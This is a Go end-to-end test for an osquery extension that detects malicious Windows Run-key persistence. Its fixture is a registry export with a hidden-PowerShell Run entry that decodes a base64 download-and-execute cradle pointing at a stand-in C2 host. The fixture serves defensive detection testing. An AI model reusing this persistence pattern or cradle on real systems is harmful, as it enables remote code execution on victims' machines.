package main

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/apache/thrift/lib/go/thrift"
	"github.com/osquery/osquery-go/gen/osquery"
	"github.com/osquery/osquery-go/transport"

	"github.com/runkeyhunt/runkeyhunt/tables/runkeypayloads"
)

// binary is the runkeyhunt executable built once for the end-to-end tests.
var binary string

// TestMain builds the binary, or takes a prebuilt one from
// RUNKEYHUNT_E2E_BINARY (a Windows test binary under Wine has no Go
// toolchain to build with).
func TestMain(m *testing.M) {
	if prebuilt := os.Getenv("RUNKEYHUNT_E2E_BINARY"); prebuilt != "" {
		binary = prebuilt
		os.Exit(m.Run())
	}
	dir, err := os.MkdirTemp("", "runkeyhunt-e2e")
	if err != nil {
		panic(err)
	}
	binary = filepath.Join(dir, "runkeyhunt")
	if runtime.GOOS == "windows" {
		binary += ".exe"
	}
	build := exec.Command("go", "build", "-o", binary, ".")
	build.Stderr = os.Stderr
	if err := build.Run(); err != nil {
		os.RemoveAll(dir)
		panic("build runkeyhunt: " + err.Error())
	}
	code := m.Run()
	os.RemoveAll(dir)
	os.Exit(code)
}

// fakeOsqueryd plays osqueryd's extension manager: it accepts the
// extension's registration and answers its pings, over osquery's Thrift
// protocol on a real Unix socket.
type fakeOsqueryd struct {
	mu         sync.Mutex
	registered chan osquery.ExtensionRegistry
	info       *osquery.InternalExtensionInfo
}

func (f *fakeOsqueryd) Ping(ctx context.Context) (*osquery.ExtensionStatus, error) {
	return &osquery.ExtensionStatus{Code: 0, Message: "OK"}, nil
}
func (f *fakeOsqueryd) Call(ctx context.Context, registry, item string, req osquery.ExtensionPluginRequest) (*osquery.ExtensionResponse, error) {
	return &osquery.ExtensionResponse{Status: &osquery.ExtensionStatus{Code: 1, Message: "not a plugin host"}}, nil
}
func (f *fakeOsqueryd) Shutdown(ctx context.Context) error { return nil }
func (f *fakeOsqueryd) Extensions(ctx context.Context) (osquery.InternalExtensionList, error) {
	return osquery.InternalExtensionList{}, nil
}
func (f *fakeOsqueryd) Options(ctx context.Context) (osquery.InternalOptionList, error) {
	return osquery.InternalOptionList{}, nil
}
func (f *fakeOsqueryd) RegisterExtension(ctx context.Context, info *osquery.InternalExtensionInfo, reg osquery.ExtensionRegistry) (*osquery.ExtensionStatus, error) {
	f.mu.Lock()
	f.info = info
	f.mu.Unlock()
	f.registered <- reg
	return &osquery.ExtensionStatus{Code: 0, Message: "OK", UUID: 7}, nil
}
func (f *fakeOsqueryd) DeregisterExtension(ctx context.Context, uuid osquery.ExtensionRouteUUID) (*osquery.ExtensionStatus, error) {
	return &osquery.ExtensionStatus{Code: 0}, nil
}
func (f *fakeOsqueryd) Query(ctx context.Context, sql string) (*osquery.ExtensionResponse, error) {
	return &osquery.ExtensionResponse{Status: &osquery.ExtensionStatus{Code: 1, Message: "no SQL here"}}, nil
}
func (f *fakeOsqueryd) GetQueryColumns(ctx context.Context, sql string) (*osquery.ExtensionResponse, error) {
	return f.Query(ctx, sql)
}

// startExtension runs the binary the way osqueryd does and returns the
// manager, a client connected to the extension's own socket, and a stop func.
func startExtension(t *testing.T) (*fakeOsqueryd, *osquery.ExtensionClient, *exec.Cmd, func()) {
	t.Helper()
	if runtime.GOOS == "windows" {
		t.Skip("Unix sockets: the Windows pipe transport is tested separately")
	}
	dir, err := os.MkdirTemp("", "rkh") // short: socket paths are limited to ~100 bytes
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	sock := filepath.Join(dir, "osquery.em")
	manager := &fakeOsqueryd{registered: make(chan osquery.ExtensionRegistry, 1)}
	serverSock, err := transport.OpenServer(sock, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	server := thrift.NewTSimpleServer2(osquery.NewExtensionManagerProcessor(manager), serverSock)
	go server.Serve()

	var stderr bytes.Buffer
	cmd := exec.Command(binary, "--socket", sock, "--timeout", "3", "--interval", "1", "--verbose")
	cmd.Stderr = &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	waited := make(chan error, 1)
	go func() { waited <- cmd.Wait() }()
	stopManager := func() { server.Stop() }
	t.Cleanup(func() {
		stopManager()
		cmd.Process.Kill()
		if t.Failed() {
			t.Logf("extension stderr:\n%s", stderr.String())
		}
	})

	select {
	case <-manager.registered:
	case err := <-waited:
		t.Fatalf("extension exited before registering: %v\n%s", err, stderr.String())
	case <-time.After(20 * time.Second):
		t.Fatalf("extension did not register\n%s", stderr.String())
	}
	trans, err := transport.Open(sock+".7", 5*time.Second)
	if err != nil {
		t.Fatalf("connect to extension socket: %v", err)
	}
	t.Cleanup(func() { trans.Close() })
	client := osquery.NewExtensionClientFactory(trans, thrift.NewTBinaryProtocolFactoryDefault())
	return manager, client, cmd, func() {
		stopManager()
		select {
		case <-waited:
		case <-time.After(15 * time.Second):
			t.Errorf("extension did not exit after osqueryd went away\n%s", stderr.String())
		}
	}
}

const e2eReg = "Windows Registry Editor Version 5.00\r\n\r\n" +
	"[HKEY_USERS\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n" +
	"\"Updater\"=\"\\\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe\\\" -c \\\"$x=$((gp HKCU:Software\\\\Microsoft\\\\Windows\\\\CurrentVersion Debug).Debug);powershell -Win Hidden -enc $x\\\"\"\r\n" +
	"\"OneDrive\"=\"\\\"C:\\\\Users\\\\alice\\\\AppData\\\\Local\\\\Microsoft\\\\OneDrive\\\\OneDrive.exe\\\" /background\"\r\n\r\n" +
	"[HKEY_USERS\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion]\r\n" +
	// base64(UTF-16LE("IEX (New-Object Net.WebClient).DownloadString('http://c2.example.invalid/admin/get.php')"))
	"\"Debug\"=\"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYwAyAC4AZQB4AGEAbQBwAGwAZQAuAGkAbgB2AGEAbABpAGQALwBhAGQAbQBpAG4ALwBnAGUAdAAuAHAAaABwACcAKQA=\"\r\n"

func writeE2EReg(t *testing.T) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "host.reg")
	if err := os.WriteFile(path, []byte(e2eReg), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestExtensionRegistersAndServesRunKeyPayloads(t *testing.T) {
	manager, client, _, stop := startExtension(t)
	manager.mu.Lock()
	if manager.info.Name != "runkeyhunt" {
		t.Errorf("registered as %q, want runkeyhunt", manager.info.Name)
	}
	manager.mu.Unlock()

	ctx := context.Background()
	resp, err := client.Call(ctx, "table", runkeypayloads.Name, osquery.ExtensionPluginRequest{"action": "columns"})
	if err != nil || resp.Status.Code != 0 {
		t.Fatalf("columns: %v %+v", err, resp)
	}
	var gotCols []string
	for _, r := range resp.Response {
		if r["id"] == "column" {
			gotCols = append(gotCols, r["name"]+" "+r["type"])
		}
	}
	var wantCols []string
	for _, c := range runkeypayloads.Schema.Columns {
		wantCols = append(wantCols, c.Name+" "+string(c.Type))
	}
	if strings.Join(gotCols, ",") != strings.Join(wantCols, ",") {
		t.Errorf("columns route:\n got %v\nwant %v", gotCols, wantCols)
	}
	// SPEC §4's column list, in order.
	spec := "key path name type data mtime location scope sid username enabled image arguments payload_kind payload_ref payload_path payload_exists payload_size payload_sha256 payload_entropy payload_encoding payload_preview indicators score verdict source source_file"
	var names []string
	for _, c := range runkeypayloads.Schema.Columns {
		names = append(names, c.Name)
	}
	if strings.Join(names, " ") != spec {
		t.Errorf("schema differs from SPEC §4:\n got %s\nwant %s", strings.Join(names, " "), spec)
	}

	src := writeE2EReg(t)
	qc, _ := json.Marshal(map[string]any{"constraints": []any{map[string]any{
		"name": "source", "affinity": "TEXT",
		"list": []any{map[string]any{"op": 2, "expr": src}},
	}}})
	resp, err = client.Call(ctx, "table", runkeypayloads.Name, osquery.ExtensionPluginRequest{"action": "generate", "context": string(qc)})
	if err != nil || resp.Status.Code != 0 {
		t.Fatalf("generate: %v %+v", err, resp)
	}
	var updater map[string]string
	for _, row := range resp.Response {
		if row["source"] != src {
			t.Errorf("row source %q, want the constraint %q echoed", row["source"], src)
		}
		if row["name"] == "Updater" {
			updater = row
		}
	}
	if len(resp.Response) != 2 || updater == nil {
		t.Fatalf("want 2 rows with Updater, got %v", resp.Response)
	}
	want := map[string]string{
		"path":           `HKEY_USERS\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Run\Updater`,
		"payload_kind":   "registry",
		"payload_path":   `HKEY_USERS\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Debug`,
		"payload_exists": "1",
		"verdict":        "malicious",
		"source_file":    src,
	}
	for k, v := range want {
		if updater[k] != v {
			t.Errorf("%s = %q, want %q", k, updater[k], v)
		}
	}
	if !strings.Contains(updater["payload_preview"], "DownloadString") {
		t.Errorf("payload not decoded: %q", updater["payload_preview"])
	}

	// A bad source is an error for that query, not a crash.
	qc, _ = json.Marshal(map[string]any{"constraints": []any{map[string]any{
		"name": "source", "affinity": "TEXT",
		"list": []any{map[string]any{"op": 2, "expr": "/nonexistent/triage"}},
	}}})
	resp, err = client.Call(ctx, "table", runkeypayloads.Name, osquery.ExtensionPluginRequest{"action": "generate", "context": string(qc)})
	if err != nil || resp.Status.Code == 0 || !strings.Contains(resp.Status.Message, "/nonexistent/triage") {
		t.Errorf("bad source: want an error naming it, got %v %+v", err, resp.Status)
	}
	if st, err := client.Ping(ctx); err != nil || st.Code != 0 {
		t.Errorf("extension not alive after a bad query: %v %v", st, err)
	}
	stop()
}
